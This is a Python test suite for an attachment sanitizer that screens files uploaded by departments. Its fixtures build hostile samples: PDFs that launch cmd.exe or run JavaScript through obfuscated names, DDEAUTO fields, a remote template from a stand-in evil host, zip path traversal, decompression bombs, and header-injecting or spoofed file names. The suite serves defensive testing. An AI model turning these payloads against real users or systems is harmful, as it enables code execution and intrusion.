"""Files that departments attach: told by content, cleaned, and refused where they could do something."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import pytest
from attached import docx, part, pdf, picture, png, related, with_field
from docx import Document
from openpyxl import Workbook, load_workbook
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from survey.documents.attachments import confined, examining, office_files, pictures
from survey.documents.attachments.examining import AttachmentRefused, examine
from survey.documents.attachments.kinds import FileKind, FileRefused, safe_name
from survey.documents.attachments.process import taken

UNPACKED = 1 << 20
TYPES = "[Content_Types].xml"
ENTITIES = b'<!DOCTYPE x [<!ENTITY a "b">]><Relationships>&a;</Relationships>'
HTML = b"<!doctype html><script>alert(1)</script>"


def sheet() -> bytes:
    book, made = Workbook(), io.BytesIO()
    book.active["A1"] = 12
    book.save(made)
    return made.getvalue()


def with_action(name: str) -> bytes:
    """PDF that does this when it is opened."""

    def change(writer: PdfWriter) -> None:
        entries = {NameObject("/S"): NameObject(name), NameObject("/F"): TextStringObject("cmd.exe")}
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(entries)

    return pdf(change)


def with_file() -> bytes:
    return pdf(lambda writer: writer.add_attachment("virus.exe", b"MZ"))


def archive(parts: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as target:
        for name, content in parts.items():
            target.writestr(name, content)
    return made.getvalue()


def bomb() -> bytes:
    return docx({"word/media/image1.png": bytes(2 * UNPACKED)})


def lying_bomb() -> bytes:
    """A bomb whose archive says that it is small."""
    content, size = bomb(), (2 * UNPACKED).to_bytes(4, "little")
    assert content.count(size) == 2
    return content.replace(size, (10).to_bytes(4, "little"))


def outcome(content: bytes) -> str:
    """Why the process would refuse this file; "" for one that it takes."""
    try:
        taken(content)
    except FileRefused as error:
        return error.why
    except Exception:
        return "damaged"
    return ""


def test_what_is_taken_is_told_by_content() -> None:
    for content, kind in ((pdf(), FileKind.PDF), (picture(), FileKind.JPEG), (png(), FileKind.PNG)):
        assert taken(content)[0] == kind
    assert taken(docx())[0] == FileKind.DOCX
    assert taken(sheet())[0] == FileKind.XLSX


def test_a_photo_keeps_nothing_of_the_camera_and_stands_upright() -> None:
    before = picture((400, 200))
    assert b"Telephone" in before
    kept = taken(before)[1]
    image = Image.open(io.BytesIO(kept))
    assert (image.size, dict(image.getexif())) == ((200, 400), {})
    assert not [sign for sign in (b"Telephone", b"Exif", b"bureau") if sign in kept]
    drawn = taken(png())[1]
    again = Image.open(io.BytesIO(drawn))
    assert (again.mode, again.size, again.info.get("Author")) == ("RGBA", (8, 4), None)
    assert b"Telephone" not in drawn


def test_a_large_photo_is_made_smaller_and_a_bomb_not_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pictures, "LONGEST", 100)
    assert Image.open(io.BytesIO(taken(picture((400, 200)))[1])).size == (50, 100)
    monkeypatch.setattr(pictures, "MOST_PIXELS", 79_999)
    with pytest.raises(FileRefused, match="pixels"):
        taken(picture((400, 200)))


def test_what_hangs_on_a_picture_or_an_office_file_is_left_behind() -> None:
    assert b"script" not in taken(picture() + HTML)[1]
    for content in (docx() + HTML, docx({"word/media/image1.png": b"image"})):
        kept = taken(content)[1]
        assert b"<script" not in kept
        assert kept.startswith(b"PK\x03\x04")
    assert Document(io.BytesIO(taken(docx())[1])).paragraphs[0].text == "窗口已增设两个。"
    assert load_workbook(io.BytesIO(taken(sheet())[1])).active["A1"].value == 12


def test_a_sealed_pdf_keeps_its_bytes() -> None:
    content = pdf()
    assert taken(content) == (FileKind.PDF, content)


HARMFUL: dict[str, list[Callable[[], bytes]]] = {
    "empty": [bytes],
    "kind": [
        lambda: HTML,
        lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        lambda: b"MZ\x90\x00",
        lambda: b"GIF89a",
        lambda: b" " + pdf(),  # what is not at the very beginning is another file
        lambda: archive({"a.html": HTML}),
    ],
    "old": [lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)],
    "damaged": [
        lambda: pdf()[:-20],
        lambda: pdf() + HTML + bytes(2000),
        lambda: picture()[:-200],
        lambda: docx()[:-30],
        lambda: docx({"../../etc/cron.d/job": b"x"}),
        lambda: docx({"WORD/document.xml": b"<x/>"}),
        lambda: docx({"word/_rels/document.xml.rels": ENTITIES}),
        lying_bomb,
    ],
    "locked": [lambda: pdf(lambda writer: writer.encrypt("geheim"))],
    "active": [
        lambda: with_action("/JavaScript"),
        lambda: with_action("/JavaScript").replace(b"/JavaScript", b"/Java#53cript"),  # as PDF allows
        lambda: with_action("/Launch").replace(b"/Launch", b"/Laun#63h"),
        lambda: with_action("/GoToE"),
        lambda: pdf() + b"9 0 obj<</S/JavaScript>>endobj %%EOF",  # not in the table of objects
        with_file,
        lambda: with_file().replace(b"/EmbeddedFiles", b"/Embedded#46iles"),
    ],
    "macros": [
        lambda: docx({"word/vbaProject.bin": b"macros"}),
        lambda: docx({TYPES: part(docx(), TYPES).replace(b"main+xml", b"macroEnabled.main+xml")}),
    ],
    "inside": [
        lambda: docx({"word/embeddings/oleObject1.bin": b"MZ"}),
        lambda: docx({"word/activeX/activeX1.xml": b"<x/>"}),
    ],
    "elsewhere": [
        lambda: docx(related("attachedTemplate", "http://evil.example/t.dotm")),
        lambda: docx(related("image", "file://evil.example/share/a.png")),
        lambda: docx(with_field("DDEAUTO c:\\windows\\system32\\cmd.exe")),
        lambda: docx(with_field("DD", "EAU", "TO cmd")),
        lambda: docx({"xl/externalLinks/externalLink1.xml": b"<x/>"}),
    ],
    "large": [bomb],
}


@pytest.mark.parametrize("why", HARMFUL)
def test_what_is_refused(why: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(office_files, "MOST_UNPACKED", UNPACKED)
    for place, make in enumerate(HARMFUL[why]):
        assert (place, outcome(make())) == (place, why)


def test_a_link_that_a_reader_presses_may_stay() -> None:
    assert taken(docx(related("hyperlink", "https://www.gov.cn/")))[0] == FileKind.DOCX


@pytest.mark.parametrize(
    ("given", "kind", "kept"),
    [
        ("整改报告.pdf", FileKind.PDF, "整改报告.pdf"),
        ("照片.JPEG", FileKind.JPEG, "照片.jpg"),
        ("3.15检查.docx", FileKind.DOCX, "3.15检查.docx"),
        ("报告.pdf.exe", FileKind.PDF, "报告.pdf.exe.pdf"),
        ("..\\..\\boot.pdf", FileKind.PDF, "boot.pdf"),
        ("/etc/passwd", FileKind.PNG, "passwd.png"),
        ("照片\u202efdp.exe", FileKind.PDF, "照片fdp.exe.pdf"),
        ('a"; filename="b.html', FileKind.PDF, "a__ filename=_b.html.pdf"),
        ("a\r\nSet-Cookie: x.pdf", FileKind.PDF, "a Set-Cookie_ x.pdf"),
        ("con.pdf", FileKind.PDF, "附件con.pdf"),
        ("...", FileKind.PDF, "附件.pdf"),
        ("", FileKind.PDF, "附件.pdf"),
        ("长" * 5000, FileKind.PDF, "长" * 80 + ".pdf"),
    ],
)
def test_names_are_only_names(given: str, kind: FileKind, kept: str) -> None:
    assert safe_name(given, kind) == kept


def test_the_process_hands_back_what_is_kept_and_why_not() -> None:
    kept = examine("窗口.jpeg", picture())
    assert (kept.name, kept.kind) == ("窗口.jpg", FileKind.JPEG)
    assert b"Telephone" not in kept.content
    with pytest.raises(AttachmentRefused, match=r"“宏[.]docx”里面有宏，没有收") as refused:
        examine("宏.docx", docx({"word/vbaProject.bin": b"macros"}))
    assert "PDF" in refused.value.say_remedy()
    with pytest.raises(AttachmentRefused, match="超过 10 MB"):
        examine("大.pdf", bytes((10 << 20) + 1))


def test_a_process_that_dies_hands_back_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(confined.sys, "executable", "/bin/false")
    with pytest.raises(AttachmentRefused, match="展开以后太大"):
        examine("一.pdf", pdf())


def test_every_reason_has_its_words() -> None:
    assert set(examining.REASONS) >= {
        "empty",
        "kind",
        "old",
        "damaged",
        "locked",
        "active",
        "macros",
        "inside",
    }
    with zipfile.ZipFile(io.BytesIO(taken(docx())[1])) as packed:
        assert packed.namelist()[0] == "[Content_Types].xml"
